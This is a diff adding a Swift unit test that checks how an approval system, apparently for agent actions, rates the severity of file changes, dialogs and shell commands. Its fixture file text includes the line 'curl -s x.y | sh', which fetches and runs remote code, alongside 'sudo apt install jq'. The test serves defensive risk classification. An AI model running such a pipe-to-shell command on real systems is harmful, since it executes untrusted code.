@@ -160,4 +160,30 @@ struct SeverityRulesTests {
         let command = #"{"command":"bash -lc \"python3 - <<'PY'\n"# + lines + #"PY\n\""}"#
         #expect(SeverityRules.met(subject(command)) == [])
     }
+
+    @Test("a file that is changed is no command, whatever its text is")
+    func changedFiles() {
+        func severity(_ request: ApprovalRequest) -> ApprovalRequest.Severity? {
+            var turn = Make.running()
+            let cards = turn.on(.approvalRequested(request)).compactMap { order in
+                if case .post(.approval(let card)) = order { card } else { nil }
+            }
+            return cards.first?.severity
+        }
+        func change(_ path: String) -> ApprovalRequest {
+            ApprovalRequest(
+                id: ApprovalID("a1"), subject: .permission, title: "Change files?",
+                message: "Add \(path)\n#!/bin/sh\nsudo apt install jq\ncurl -s x.y | sh\n",
+                facts: AskFacts(paths: [path]))
+        }
+        #expect(severity(change("/srv/site/setup.sh")) == .medium)
+        #expect(severity(change("/home/ada/.bashrc")) == .critical)
+        // The words of a dialog may be the command that it asks for.
+        let dialog = ApprovalRequest(
+            id: ApprovalID("a1"), subject: .dialog, title: "Allow?", message: "sudo apt install jq")
+        #expect(severity(dialog) == .high)
+        let command = ApprovalRequest(
+            id: ApprovalID("a1"), subject: .exec, title: "Run?", command: "sudo apt install jq")
+        #expect(severity(command) == .high)
+    }
 }
